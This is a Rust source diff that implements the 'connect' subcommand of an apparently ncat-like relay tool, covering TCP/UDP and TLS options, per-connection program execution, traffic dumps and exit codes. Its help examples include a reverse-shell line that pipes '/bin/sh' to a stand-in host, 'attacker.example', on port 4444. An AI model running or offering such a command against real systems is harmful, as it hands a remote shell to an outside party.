@@ -1,10 +1,304 @@
-//! `sockbox connect` (being written).
+//! `sockbox connect HOST PORT`: a TCP/UDP client wired to stdin/stdout or
+//! to a program, like `ncat HOST PORT`. Also holds the relay flags shared
+//! with `sockbox listen`.
+
+use std::io::IsTerminal;
+use std::path::PathBuf;
+use std::time::Duration;
+
+use sockbox::relay::client::{ClientLocal, Connected, relay_exec, relay_stdio, relay_tls};
+use sockbox::relay::net::{self, Family};
+use sockbox::relay::pump::Stopper;
+use sockbox::relay::{Dump, DumpFormat, ExecSpec, Flow, Outcome, RelayError, RelayOptions, Report};
+
+use crate::cmd::runtime;
+use crate::exit::{PARTIAL, SUCCESS, usage};
+
+const EXAMPLES: &str = "Examples:
+  sockbox connect example.com 80 <<< $'GET / HTTP/1.0\\r\\n\\r\\n'
+  head -c 1G /dev/zero | sockbox connect 10.0.0.2 9000      # splice(2) fast path
+  sockbox connect -u 192.0.2.1 53 -q 2 < query.bin           # UDP, quit 2 s after EOF
+  sockbox connect -x traffic.dump localhost 25               # hex dump tagged > sent / < received
+  sockbox connect -c 'exec /bin/sh' attacker.example 4444    # a program instead of stdin/stdout
+  sockbox connect --tls example.com 443                      # TLS, certificate checked
+
+Half-close: at end of standard input the socket's write side is shut down
+(TCP FIN) and output keeps flowing until the peer closes. --no-shutdown keeps
+it open; -q SECS quits that long after end of input.
+
+Exit codes: 0 success; 1 the connection failed, was reset by the peer or went
+idle (-i); 2 usage or input error (bad host name, bad flag); 3 system failure.";
+
+/// Relay flags shared by `connect` and `listen`.
+#[derive(Debug, Clone, clap::Args)]
+pub struct RelayArgs {
+    /// UDP instead of TCP.
+    #[arg(short = 'u', long)]
+    pub udp: bool,
+    /// IPv4 only.
+    #[arg(short = '4', conflicts_with = "ipv6")]
+    pub ipv4: bool,
+    /// IPv6 only.
+    #[arg(short = '6')]
+    pub ipv6: bool,
+    /// Close a connection after this long with no data either way (e.g. 30, 1m).
+    #[arg(short = 'i', long = "idle-timeout", value_name = "DURATION", value_parser = parse_secs)]
+    pub idle: Option<Duration>,
+    /// Quit this long after end of standard input (0: at once).
+    #[arg(short = 'q', long = "quit-after", value_name = "SECS", value_parser = parse_secs)]
+    pub quit: Option<Duration>,
+    /// At end of input, do not shut down the socket's write side.
+    #[arg(long)]
+    pub no_shutdown: bool,
+    /// Only send; what the peer sends is read and dropped. Ends at end of input.
+    #[arg(long, conflicts_with = "recv_only")]
+    pub send_only: bool,
+    /// Only receive; standard input is never read.
+    #[arg(long)]
+    pub recv_only: bool,
+    /// Run this program per connection, its stdin/stdout on the socket (split on spaces).
+    #[arg(
+        short = 'e',
+        long = "exec",
+        value_name = "CMD",
+        conflicts_with = "sh_exec"
+    )]
+    pub exec: Option<String>,
+    /// Run this command line with /bin/sh -c per connection.
+    #[arg(short = 'c', long = "sh-exec", value_name = "CMD")]
+    pub sh_exec: Option<String>,
+    /// Dump all traffic to FILE in hexdump -C layout, each chunk tagged `> send` or
+    /// `< recv` with peer, byte offset and time.
+    #[arg(short = 'x', long = "hex-dump", value_name = "FILE")]
+    pub hex_dump: Option<PathBuf>,
+    /// Dump all traffic to FILE as text, with the same tags.
+    #[arg(
+        short = 'o',
+        long = "output",
+        value_name = "FILE",
+        conflicts_with = "hex_dump"
+    )]
+    pub text_dump: Option<PathBuf>,
+    /// Never use splice(2); copy through a buffer (for comparison).
+    #[arg(long)]
+    pub no_splice: bool,
+    /// Log connections to stderr (-vv for more).
+    #[arg(short = 'v', long, action = clap::ArgAction::Count)]
+    pub verbose: u8,
+}
 
 /// Arguments of `sockbox connect`.
 #[derive(Debug, clap::Args)]
-pub struct Args {}
+#[command(after_help = EXAMPLES)]
+pub struct Args {
+    /// Host name or address to connect to.
+    pub host: String,
+    /// Port.
+    pub port: u16,
+    /// Give up connecting after this long (per address tried).
+    #[arg(short = 'w', long = "wait", value_name = "DURATION", value_parser = parse_secs)]
+    pub wait: Option<Duration>,
+    /// Speak TLS over the TCP connection; the certificate must match HOST.
+    #[arg(long, conflicts_with = "udp")]
+    pub tls: bool,
+    /// Trust only the CA certificates in this PEM file (default: the system store).
+    #[arg(long, value_name = "FILE", requires = "tls")]
+    pub tls_ca: Option<PathBuf>,
+    /// Accept any server certificate (testing only: anyone can impersonate the server).
+    #[arg(long, requires = "tls")]
+    pub tls_insecure: bool,
+    /// Relay flags.
+    #[command(flatten)]
+    pub relay: Box<RelayArgs>,
+}
+
+/// `5`, `2.5` (seconds) or a humantime duration such as `500ms`, `1m`.
+pub fn parse_secs(s: &str) -> Result<Duration, String> {
+    if let Ok(f) = s.parse::<f64>() {
+        return Duration::try_from_secs_f64(f)
+            .map_err(|_| format!("{s:?} is not a valid number of seconds"));
+    }
+    humantime::parse_duration(s).map_err(|e| format!("{s:?}: {e} (examples: 5, 0.5, 500ms, 1m)"))
+}
+
+impl RelayArgs {
+    /// `-4`/`-6`.
+    pub fn family(&self) -> Family {
+        if self.ipv4 {
+            Family::V4
+        } else if self.ipv6 {
+            Family::V6
+        } else {
+            Family::Any
+        }
+    }
+
+    /// The relay rules these flags ask for.
+    pub fn options(&self) -> RelayOptions {
+        RelayOptions {
+            flow: if self.send_only {
+                Flow::SendOnly
+            } else if self.recv_only {
+                Flow::RecvOnly
+            } else {
+                Flow::Both
+            },
+            half_close: !self.no_shutdown,
+            quit_after_eof: self.quit,
+            idle_timeout: self.idle,
+            // At a terminal nobody can type EOF for a peer that has left.
+            end_on_remote_eof: std::io::stdin().is_terminal(),
+            zero_copy: !self.no_splice,
+            ..RelayOptions::default()
+        }
+    }
+
+    /// The program to run per connection, if any.
+    pub fn exec_spec(&self) -> anyhow::Result<Option<ExecSpec>> {
+        if let Some(e) = &self.exec {
+            return ExecSpec::from_words(e)
+                .map(Some)
+                .ok_or_else(|| usage("-e needs a program to run"));
+        }
+        Ok(self.sh_exec.as_ref().map(|s| ExecSpec::Shell(s.clone())))
+    }
+
+    /// Open the dump file, if asked for.
+    pub fn dump(&self) -> anyhow::Result<Option<Dump>> {
+        let (path, format) = match (&self.hex_dump, &self.text_dump) {
+            (Some(p), _) => (p, DumpFormat::Hex),
+            (None, Some(p)) => (p, DumpFormat::Text),
+            (None, None) => return Ok(None),
+        };
+        Dump::create(path, format)
+            .map(Some)
+            .map_err(|e| usage(e.to_string()))
+    }
+
+    /// The log level `-v` asks for: warn, info (`-v`), debug (`-vv`).
+    pub fn log_level(&self) -> tracing::Level {
+        match self.verbose {
+            0 => tracing::Level::WARN,
+            1 => tracing::Level::INFO,
+            _ => tracing::Level::DEBUG,
+        }
+    }
+
+    /// Log to stderr at the level -v asks for, unless a logger is installed.
+    pub fn init_logging(&self) {
+        if tracing::dispatcher::has_been_set() {
+            return;
+        }
+        let level = self.log_level();
+        let _ = tracing_subscriber::fmt()
+            .with_max_level(level)
+            .with_writer(std::io::stderr)
+            .with_target(false)
+            .with_ansi(std::io::stderr().is_terminal())
+            .try_init();
+    }
+}
+
+/// The exit code for a finished relay, printing why when it is not 0.
+pub fn finish(result: Result<Report, RelayError>) -> anyhow::Result<u8> {
+    match result {
+        Ok(r) => match r.outcome {
+            Outcome::Idle(d) => {
+                eprintln!(
+                    "sockbox: no data for {} (-i): connection closed after {} bytes sent and {} received",
+                    humantime::format_duration(d),
+                    r.sent,
+                    r.received
+                );
+                Ok(PARTIAL)
+            }
+            Outcome::Done | Outcome::Quit | Outcome::Stopped | Outcome::OutputClosed => Ok(SUCCESS),
+        },
+        Err(e) => relay_error(e),
+    }
+}
+
+/// Map a relay error: peer trouble exits 1 with a message; bad input 2;
+/// anything else is a system failure (3).
+pub fn relay_error(e: RelayError) -> anyhow::Result<u8> {
+    match e {
+        RelayError::Reset { .. }
+        | RelayError::Unreachable(_)
+        | RelayError::Connect { .. }
+        | RelayError::ConnectTimeout { .. }
+        | RelayError::Recv { .. }
+        | RelayError::Send { .. }
+        | RelayError::Tls(sockbox::tls::TlsError::Handshake { .. })
+        | RelayError::TlsTimeout(_) => {
+            eprintln!("sockbox: {e}");
+            Ok(PARTIAL)
+        }
+        RelayError::Tls(_)
+        | RelayError::Resolve { .. }
+        | RelayError::NoAddress { .. }
+        | RelayError::Acl(_)
+        | RelayError::Dump { .. }
+        | RelayError::Exec { .. } => Err(usage(e.to_string())),
+        other => Err(anyhow::Error::new(other)),
+    }
+}
 
 /// Run `sockbox connect`.
-pub fn run(_a: &Args) -> anyhow::Result<u8> {
-    Err(crate::exit::usage("sockbox connect is not built yet"))
+pub fn run(a: &Args) -> anyhow::Result<u8> {
+    let r = &a.relay;
+    r.init_logging();
+    let spec = r.exec_spec()?;
+    let opts = r.options();
+    let addrs = match net::resolve(&a.host, a.port, r.family()) {
+        Ok(v) => v,
+        Err(e) => return relay_error(e),
+    };
+    let dump = r.dump()?;
+    let sock = if r.udp {
+        net::connect_udp(&addrs).map(Connected::Udp)
+    } else {
+        net::connect_tcp(&addrs, a.wait).map(Connected::Tcp)
+    };
+    let sock = match sock {
+        Ok(s) => s,
+        Err(e) => return relay_error(e),
+    };
+    if let Ok(peer) = sock.peer() {
+        tracing::info!("connected to {peer}");
+    }
+    let result = if a.tls {
+        let Connected::Tcp(tcp) = sock else {
+            return Err(usage("--tls needs TCP"));
+        };
+        let tls = sockbox::tls::ClientTls {
+            ca: a.tls_ca.clone(),
+            insecure: a.tls_insecure,
+        };
+        let connector = tls.connector().map_err(|e| usage(e.to_string()))?;
+        let local = match spec {
+            Some(s) => ClientLocal::Exec(s),
+            None => ClientLocal::Stdio,
+        };
+        let host = a.host.clone();
+        runtime::block_on(async move {
+            let stop = sockbox::Shutdown::new();
+            runtime::shutdown_on_signals(&stop)?;
+            Ok::<_, anyhow::Error>(
+                relay_tls(tcp, &connector, &host, &local, &opts, dump, &stop).await,
+            )
+        })??
+    } else if let Some(spec) = spec {
+        runtime::block_on(async move {
+            let stop = sockbox::Shutdown::new();
+            runtime::shutdown_on_signals(&stop)?;
+            Ok::<_, anyhow::Error>(relay_exec(sock, &spec, &opts, dump, &stop).await)
+        })??
+    } else {
+        let stopper = Stopper::new().map_err(anyhow::Error::new)?;
+        relay_stdio(sock, &opts, dump, &stopper)
+    };
+    if let Ok(rep) = &result {
+        tracing::info!("closed: sent {}, received {}", rep.sent, rep.received);
+    }
+    finish(result)
 }
